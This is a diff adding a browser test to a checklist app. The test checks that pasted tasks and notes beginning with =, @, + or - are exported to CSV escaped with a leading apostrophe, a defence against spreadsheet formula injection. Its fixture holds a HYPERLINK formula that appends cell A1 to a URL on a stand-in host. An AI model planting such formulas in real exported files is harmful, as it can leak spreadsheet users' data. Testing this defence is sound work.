@@ -6,6 +6,7 @@ import assert from "node:assert/strict";
 import { createHash } from "node:crypto";
 import fs from "node:fs/promises";
 import { browserAndServer } from "./harness.mjs";
+import { parseCsv } from "./app_page.mjs";
 import { DOC_PREFIX, withContext } from "./checklist_page.mjs";
 
 // Tasks of seed 003, the first-visit sample.
@@ -294,4 +295,29 @@ test("a document whose text did not fit stays in the library after a reload, as 
     assert.equal(await app.isDone(t2), true);
     assert.equal(await app.libraryDoc(title).getByTestId("text-not-saved").count(), 0);
   });
+});
+
+test("a pasted task that a spreadsheet would run as a formula is exported to CSV as plain text", async () => {
+  const text = '2024年测试清单\n一、=HYPERLINK("http://example.com/?d="&A1,"点击查看")\n责任单位：市发改局\n二、@SUM(1+1)推进工作\n配合单位：=1+2局\n三、+1+2 推进工作\n四、-2+3 推进工作\n';
+  await inContext(
+    async (open) => {
+      const app = await open();
+      await app.paste(text);
+      await app.task("推进工作").waitFor();
+      await app.writeNote("+1+2 推进工作", "=1+1");
+      const [file] = await Promise.all([
+        app.page.waitForEvent("download"),
+        app.page.getByRole("button", { name: "导出 CSV", exact: true }).click(),
+      ]);
+      const records = parseCsv((await fs.readFile(await file.path())).subarray(3).toString("utf8")).slice(1);
+      assert.deepEqual(
+        records.map((r) => r[3]),
+        ['\'=HYPERLINK("http://example.com/?d="&A1,"点击查看")', "'@SUM(1+1)推进工作", "'+1+2 推进工作", "'-2+3 推进工作"],
+      );
+      assert.equal(records[1][6], "'=1+2局");
+      assert.equal(records[2][9], "'=1+1");
+      assert.equal(records[0][5], "市发改局");
+    },
+    { contextOptions: { acceptDownloads: true } },
+  );
 });
